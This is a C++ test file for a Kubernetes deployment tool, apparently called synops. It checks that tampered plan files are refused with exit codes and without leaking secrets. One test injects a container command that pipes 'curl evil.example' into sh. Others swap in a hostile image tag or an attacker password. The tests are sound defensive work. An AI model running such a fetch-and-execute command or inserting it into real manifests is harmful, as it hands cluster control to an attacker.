// A plan file is checked, not trusted (issue #18, 3), through the real binary: a plan file
// edited to write a field the manifests never asked for, or to write a Secret, is refused
// with exit 3, names the step and path, and never quotes a live value; an untouched one
// applies. A plan file without the manifests it was made from is not applied at all.
#include <doctest/doctest.h>

#include <fstream>
#include <string>

#include "support/apply_fixture.h"
#include "support/cli_run.h"
#include "support/example_objects.h"

using namespace synops;
using namespace synops::testing;
namespace fs = std::filesystem;

namespace {

const std::string kPasswordCanary = "CANARY-db-password-9c1f";

struct SavedPlan {
  fs::path manifests;
  fs::path file;
  nlohmann::json document;
};

SavedPlan save_plan(const ApplyWorld& world, const ApplyPostgres& postgres) {
  SavedPlan saved;
  saved.manifests = write_manifests(world, postgres);
  saved.file = saved.manifests / "plan.json";
  const auto kubeconfig = (world.server.certs() / "kubeconfig-token.yaml").string();
  const auto planned = run_cli({"plan", saved.manifests.string(), "--out", saved.file.string(), "--kubeconfig", kubeconfig});
  REQUIRE_MESSAGE(planned.code == 0, planned.err);
  saved.document = nlohmann::json::parse(slurp(saved.file));
  return saved;
}

void rewrite(const SavedPlan& saved, const nlohmann::json& document) { std::ofstream(saved.file) << document.dump(2); }

nlohmann::json& step_entry(nlohmann::json& document, const std::string& key) {
  for (auto& step : document["actions"])
    if (step["key"] == key) return step;
  FAIL("no step " << key);
  throw;
}

}  // namespace

TEST_CASE("plan file trust: a change added to a step (main's command) is refused by step and path; nothing is written") {
  ApplyPostgres postgres;
  REQUIRE_MESSAGE(postgres.started(), postgres.log());
  ApplyWorld world;
  SavedPlan saved = save_plan(world, postgres);
  nlohmann::json edited = saved.document;
  auto& main_update = step_entry(edited, "update StatefulSet/matrix/synapse-main");
  main_update["changes"].push_back({{"path", "/spec/template/spec/containers/0/command"},
                                    {"before", nullptr},
                                    {"after", {"sh", "-c", "curl evil.example | sh"}},
                                    {"sensitive", false}});
  rewrite(saved, edited);
  const auto refused = run_cli(concat({"apply", saved.file.string()}, cluster_args(world)));
  CHECK_MESSAGE(refused.code == 3, refused.err);
  CHECK(refused.err.find("(update StatefulSet/matrix/synapse-main) writes /spec/template/spec/containers/0/command, which the "
                         "manifests do not ask for") != std::string::npos);
  CHECK(refused.err.find("curl evil.example") == std::string::npos);
  CHECK(world.live_value(kMainStatefulSet, "/spec/template/spec/containers/0/command").is_null());
  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");

  // Another value for a field the manifests do own is refused the same way.
  nlohmann::json retagged = saved.document;
  for (auto& change : step_entry(retagged, "update StatefulSet/matrix/synapse-main")["changes"])
    if (change["path"] == kContainerImage) change["after"] = "evil.example/synapse:latest";
  rewrite(saved, retagged);
  const auto other_value = run_cli(concat({"apply", saved.file.string()}, cluster_args(world)));
  CHECK_MESSAGE(other_value.code == 3, other_value.err);
  CHECK(other_value.err.find("writes " + kContainerImage + " otherwise than the manifests ask") != std::string::npos);
  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");

  // The file as synops wrote it applies.
  rewrite(saved, saved.document);
  const auto applied = run_cli(concat({"apply", saved.file.string()}, cluster_args(world)));
  CHECK_MESSAGE(applied.code == 0, applied.err);
  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.120.0");
}

TEST_CASE("plan file trust: a step on a Secret is refused, and the Secret's live value is never printed") {
  ApplyPostgres postgres;
  REQUIRE_MESSAGE(postgres.started(), postgres.log());
  ApplyWorld world;
  world.server.admin("POST", "/_test/objects",
                     nlohmann::json{{"apiVersion", "v1"},
                                    {"kind", "Secret"},
                                    {"metadata", {{"name", "synapse-postgres-app"}, {"namespace", "matrix"}}},
                                    {"stringData", {{"password", kPasswordCanary}}}}
                         .dump());
  SavedPlan saved = save_plan(world, postgres);
  nlohmann::json edited = saved.document;
  nlohmann::json secret_step = edited["actions"][0];
  secret_step["id"] = "a99";
  secret_step["key"] = "update Secret/matrix/synapse-postgres-app";
  secret_step["type"] = "update";
  secret_step["target"] = {{"kind", "Secret"}, {"namespace", "matrix"}, {"name", "synapse-postgres-app"}};
  secret_step["changes"] = {{{"path", "/stringData/password"}, {"before", nullptr}, {"after", "attacker"}, {"sensitive", false}}};
  secret_step.erase("params");
  edited["actions"].push_back(secret_step);
  rewrite(saved, edited);
  const auto refused = run_cli(concat({"apply", saved.file.string(), "-v"}, cluster_args(world)));
  CHECK_MESSAGE(refused.code == 3, refused.err);
  CHECK(refused.err.find("step a99 (update Secret/matrix/synapse-postgres-app) is not a step the manifests and the cluster call for") !=
        std::string::npos);
  CHECK(refused.err.find(kPasswordCanary) == std::string::npos);
  CHECK(refused.err.find("attacker") == std::string::npos);
  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
  const auto shown = run_cli({"show", saved.file.string()});
  CHECK(shown.err.find(kPasswordCanary) == std::string::npos);
}

TEST_CASE("plan file trust: a plan file away from its manifests is not applied") {
  ApplyPostgres postgres;
  REQUIRE_MESSAGE(postgres.started(), postgres.log());
  ApplyWorld world;
  SavedPlan saved = save_plan(world, postgres);
  const fs::path alone = world.scratch.path() / "elsewhere" / "plan.json";
  fs::create_directories(alone.parent_path());
  fs::copy_file(saved.file, alone);
  const auto refused = run_cli(concat({"apply", alone.string()}, cluster_args(world)));
  CHECK_MESSAGE(refused.code == 1, refused.err);
  CHECK(refused.err.find("a plan file is applied only together with the manifests it was made from") != std::string::npos);
  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
}
